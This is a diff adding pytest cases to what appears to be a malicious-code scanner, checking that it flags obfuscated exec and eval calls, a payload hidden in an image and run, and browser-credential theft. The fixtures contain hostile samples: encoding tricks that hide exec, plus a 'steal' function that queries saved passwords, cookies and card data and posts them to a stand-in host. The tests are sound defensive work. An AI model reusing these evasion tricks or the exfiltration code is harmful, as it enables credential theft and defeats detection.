@@ -482,3 +482,51 @@ def test_timing_a_literal_statement_passes() -> None:
     rules, held = _imported("import timeit\nprint(timeit.timeit('sum(range(100))', number=1000))\n")
     assert "decode-exec" not in rules
     assert not held
+
+
+# Rules 21.
+
+
+def test_a_builtin_fetched_through_builtins_own_getattr_is_followed() -> None:
+    code = (
+        "cc = __builtins__.getattr(__builtins__, b'\\x85\\xa5\\x81\\x93'.decode('cp1026'))\n"
+        "cc(b'\\x89\\x94\\x97\\x96\\x99\\xa3@\\x96\\xa2'.decode('cp1026'))\n"
+    )
+    rules, held = _imported(code)
+    assert rules.get("decode-exec") == 10
+    assert held
+
+
+def test_a_builtin_renamed_by_evaluating_its_name_is_followed() -> None:
+    code = "import base64\n_____ = eval('\\145\\166\\141\\154')\n_____(base64.b64decode('aW1wb3J0IG9z'))\n"
+    rules, held = _imported(code)
+    assert rules.get("decode-exec") == 10
+    assert held
+
+
+def test_a_payload_revealed_from_an_image_and_run_is_decode_exec() -> None:
+    client = "from stegano import lsb\ndef connect():\n    exec(lsb.reveal('cover.png'))\n"
+    rules, held = judge_in_function(client)
+    assert rules.get("decode-exec") == 10
+    assert held
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "SELECT origin_url, username, password_value FROM logins",
+        "select host_key, name, encrypted_value from cookies",
+        "SELECT name_on_card, card_number_encrypted FROM credit_cards",
+    ],
+)
+def test_the_queries_that_read_a_browsers_secrets_are_a_credential_read(query: str) -> None:
+    code = (
+        "import sqlite3, requests\n"
+        "def steal(db):\n"
+        f"    rows = sqlite3.connect(db).execute({query!r}).fetchall()\n"
+        "    requests.post('https://collect.example.net/p', data=str(rows))\n"
+    )
+    rules, held = _imported(code)
+    assert "credential-read" in rules
+    assert "credential-exfil" in rules
+    assert held
